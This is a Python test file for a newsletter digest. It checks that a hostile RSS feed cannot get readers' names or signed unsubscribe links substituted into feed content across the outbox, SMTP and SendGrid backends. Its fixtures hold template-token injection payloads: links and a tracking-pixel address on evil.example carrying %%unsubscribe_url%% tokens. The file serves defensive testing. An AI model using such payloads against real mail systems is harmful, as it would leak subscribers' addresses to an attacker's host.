"""A feed cannot put a reader's own values anywhere the template did not (issue 8, case 1).

A feed writes most of an email. The send stage fills per-recipient tokens (the
greeting with the reader's name, their signed unsubscribe link, which carries their
address) by blind substitution: SendGrid from personalizations[].substitutions, the
outbox and SMTP locally. Here a hostile feed spells those tokens in a title, a dek, a
link and a picture's address, and every backend's mailed copy is read as a mail client
would: the reader's values stand only where the template put them, and nothing of
theirs goes to a host the feed chose.
"""

from __future__ import annotations

import email
import email.policy
import re
import socket
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from fakes.sendgrid_server import DEFAULT_KEY, FakeSendGrid
from lxml import html as lxml_html

from digest import config, jobs
from digest.config import Settings
from digest.models import Batch, Recipient
from digest.send import letter_for
from digest.send.base import Letter
from digest.send.sendgrid import SendGridBackend
from digest.send.smtp import SMTPBackend

DAY = date(2025, 12, 5)
#: Anything a substitution engine could take for a token, keyed or not.
TOKEN_SYNTAX = re.compile(r"%%[A-Za-z0-9_.:-]+%%")
#: A reader with no section preference gets the whole edition, hostile stories included.
READER = Recipient("ben.tanaka@example.org", "Ben Tanaka")
EVIL = "evil.example"

#: What an attacker who controls a feed writes: the tokens as the product used to
#: spell them, a guess at a keyed one, and the lot in links and pictures.
HOSTILE_ITEMS = [
    {
        "title": "Council votes %%greeting%% on the ferry budget %%greeting_text%%",
        "link": f"https://{EVIL}/story?u=%%unsubscribe_url%%&g=%%greeting%%",
        "image": f"https://{EVIL}/px.gif?u=%%unsubscribe_url%%&n=%%greeting_text%%",
        "description": (
            "Read on: %%unsubscribe_url%% %%greeting%% %%unsubscribe_url-0123456789abcdef%%"
        ),
        "section": "Hostile",
    },
    {
        "title": "Harbor plan %%unsubscribe_url%%",
        "link": f"https://{EVIL}/two?%%unsubscribe_url%%",
        "image": f"https://{EVIL}/%%unsubscribe_url%%.png",
        "description": "%%greeting_text%%",
        "section": "Hostile two",
    },
]


def _hostile_feed(items: list[dict[str, str]]) -> str:
    entries = "".join(
        f"""<item><title>{i["title"]}</title><link>{i["link"].replace("&", "&amp;")}</link>
        <description>{i["description"]}</description><category>{i["section"]}</category>
        <pubDate>Fri, 05 Dec 2025 01:00:00 -0900</pubDate>
        <media:content url="{i["image"].replace("&", "&amp;")}" medium="image" type="image/gif"/>
        </item>"""
        for i in items
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        f"<title>Wire</title><link>https://wire.example/</link>{entries}</channel></rss>"
    )


@pytest.fixture
def hostile(newsroom: Path, db_url: str) -> Settings:
    """The sample newsroom with a hostile feed listed first among its sources."""
    (newsroom / "hostile.xml").write_text(_hostile_feed(HOSTILE_ITEMS), encoding="utf-8")
    toml = newsroom / "digest.toml"
    text = toml.read_text(encoding="utf-8")
    toml.write_text(text.replace('feeds = ["', 'feeds = ["hostile.xml", "', 1), encoding="utf-8")
    settings = config.load(toml, env={"DIGEST_SECRET_KEY": "test-secret"})
    return replace(settings, database_url=db_url)


def _hostile_letter(settings: Settings) -> Letter:
    store = jobs.open_store(settings)
    try:
        jobs.collect(settings, store)
        edition = jobs.draft(settings, store, DAY)
        shown = {p.story.title for p in edition.picks}
        assert {i["title"] for i in HOSTILE_ITEMS} <= shown, "the hostile stories are not shown"
        return letter_for(settings, jobs.render_edition(settings, store, edition.name))
    finally:
        store.close()


def assert_reader_values_only_where_the_template_put_them(
    html: str, text: str, reader: Recipient, unsubscribe_url: str
) -> None:
    """What a user would check in the mailed copy, part by part."""
    doc = lxml_html.fromstring(html)
    for attribute in doc.xpath("//@*"):
        value = str(attribute)
        signed = unsubscribe_url.rsplit("/", 1)[1]
        if (
            "/unsubscribe/" in value
            or signed in value
            or reader.email in value
            or "Tanaka" in value
        ):
            element = attribute.getparent()
            # Only the footer's own link carries it, whole.
            assert (element.tag, attribute.attrname, value) == ("a", "href", unsubscribe_url)
    for element in doc.xpath(
        f"//*[@src or @href][contains(@src, '{EVIL}') or contains(@href, '{EVIL}')]"
    ):
        address = element.get("src") or element.get("href")
        assert "/unsubscribe/" not in address and "Tanaka" not in address and "%%" not in address
    for part in (html, text):
        assert TOKEN_SYNTAX.search(part) is None, TOKEN_SYNTAX.search(part)
    # The name once, in the greeting; the signed link only in the footer.
    assert html.count("Ben Tanaka") == 1 and "Good morning, Ben Tanaka." in html
    assert text.count("Ben Tanaka") == 1 and "Good morning, Ben Tanaka." in text
    assert text.count(unsubscribe_url) == 1 and f"Unsubscribe: {unsubscribe_url}" in text
    # The hostile headline is still there, as the harmless text it is.
    shown = doc.text_content()
    assert "Council votes" in shown and "on the ferry budget" in shown


def _parts(message: EmailMessage) -> tuple[str, str]:
    parts = {p.get_content_type(): p.get_content() for p in message.iter_parts()}
    return parts["text/html"], parts["text/plain"]


def test_the_outbox_copy_keeps_reader_values_out_of_feed_content(hostile: Settings) -> None:
    store = jobs.open_store(hostile)
    try:
        summary = jobs.run(hostile, store, DAY)
    finally:
        store.close()
    assert summary.outbox is not None and summary.send.state == "done"
    seen = 0
    for path in sorted(summary.outbox.glob("*.eml")):
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        if message["To"].addresses[0].addr_spec != READER.email:  # type: ignore[attr-defined]
            continue
        url = re.search(r"<(http[^>]+)>", str(message["List-Unsubscribe"]))
        assert url is not None
        html, text = _parts(message)  # type: ignore[arg-type]
        assert_reader_values_only_where_the_template_put_them(html, text, READER, url.group(1))
        seen += 1
    assert seen == 1


class _Inbox:
    def __init__(self) -> None:
        self.messages: list[EmailMessage] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        message = email.message_from_bytes(envelope.original_content, policy=email.policy.default)
        self.messages.append(message)  # type: ignore[arg-type]
        return "250 OK"


@pytest.fixture
def relay() -> Iterator[tuple[_Inbox, int]]:
    inbox = _Inbox()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        yield inbox, port
    finally:
        controller.stop()


def test_the_smtp_copy_keeps_reader_values_out_of_feed_content(
    hostile: Settings, relay: tuple[_Inbox, int]
) -> None:
    inbox, port = relay
    letter = _hostile_letter(hostile)
    backend = SMTPBackend("127.0.0.1", port, security="none")
    try:
        backend.push(letter, Batch(send_id=1, number=1, recipients=[READER]))
    finally:
        backend.close()
    (message,) = inbox.messages
    html, text = _parts(message)
    url = letter.unsubscribe_url(READER)
    assert_reader_values_only_where_the_template_put_them(html, text, READER, url)


def _as_sendgrid_fills(value: str, substitutions: dict[str, str]) -> str:
    """SendGrid's legacy substitutions: every key replaced wherever it stands."""
    for key, filled in substitutions.items():
        value = value.replace(key, filled)
    return value


def test_the_sendgrid_copy_keeps_reader_values_out_of_feed_content(hostile: Settings) -> None:
    letter = _hostile_letter(hostile)
    with FakeSendGrid(keep_bodies=True) as fake:
        backend = SendGridBackend(DEFAULT_KEY, host=fake.url)
        try:
            backend.push(letter, Batch(send_id=1, number=1, recipients=[READER]))
        finally:
            backend.close()
        (body,) = fake.bodies
    (personalization,) = body["personalizations"]
    substitutions = personalization["substitutions"]
    # Only this copy's own tokens are named for SendGrid to fill.
    assert all(re.fullmatch(r"%%[a-z_]+-[0-9a-f]{16}%%", key) for key in substitutions)
    content = {c["type"]: c["value"] for c in body["content"]}
    html = _as_sendgrid_fills(content["text/html"], substitutions)
    text = _as_sendgrid_fills(content["text/plain"], substitutions)
    subject = _as_sendgrid_fills(body["subject"], substitutions)
    assert "Tanaka" not in subject and "/unsubscribe/" not in subject
    url = letter.unsubscribe_url(READER)
    assert_reader_values_only_where_the_template_put_them(html, text, READER, url)
